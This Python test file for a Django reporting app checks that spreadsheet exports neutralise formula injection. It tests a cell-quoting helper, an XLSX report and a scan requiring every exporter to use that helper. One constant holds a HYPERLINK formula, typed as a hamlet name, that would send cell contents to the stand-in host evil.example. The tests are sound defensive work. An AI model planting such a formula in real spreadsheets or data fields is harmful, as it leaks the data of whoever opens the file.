"""Finding 4 of issue 13: no spreadsheet we hand out runs a formula an attacker typed as a name."""

import re
from io import BytesIO
from pathlib import Path

from django.utils import timezone
from openpyxl import load_workbook

from canhgiac.testing import signed_in
from core.spreadsheets import safe_cell, to_csv
from coverage.actions import check_rename_unit

ROOT = Path(__file__).resolve().parents[2]
EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")'


def test_text_that_starts_a_formula_is_quoted_and_the_rest_passes():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert safe_cell(f"{start}1+1") == f"'{start}1+1"
    assert safe_cell("Ấp Phước Hội") == "Ấp Phước Hội"
    assert safe_cell(-5) == -5 and safe_cell(None) is None and safe_cell("") == ""
    assert to_csv([["=1+1", 3], ["Tổ 1", "@SUM(A1)"]]) == "'=1+1,3\r\nTổ 1,'@SUM(A1)\r\n"


def test_a_hamlet_named_as_a_formula_stays_text_in_the_xlsx_report(world, client):
    check_rename_unit(world.officer, world.hamlet, EVIL)
    today = timezone.localdate()
    response = signed_in(client, world.officer).get(
        f"/steering/u/{world.commune.code}/report.xlsx",
        {"kind": "month", "year": str(today.year), "number": str(today.month)},
    )
    assert response.status_code == 200
    book = load_workbook(BytesIO(response.content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert "'" + EVIL in [cell.value for cell in cells]


def test_every_spreadsheet_export_goes_through_the_shared_helper():
    """A module that writes XLSX or CSV must import core.spreadsheets (imports read XLSX: not exports)."""
    writers = re.compile(r"\bWorkbook\(|csv\.writer\(|csv\.DictWriter\(")
    offenders = []
    for path in ROOT.glob("*/**/*.py"):
        relative = path.relative_to(ROOT)
        skipped = relative.parts[0] in {".venv", "var"} or "tests" in relative.parts
        if skipped or relative == Path("core/spreadsheets.py"):
            continue
        text = path.read_text()
        if writers.search(text) and "core.spreadsheets" not in text:
            offenders.append(str(relative))
    assert offenders == []
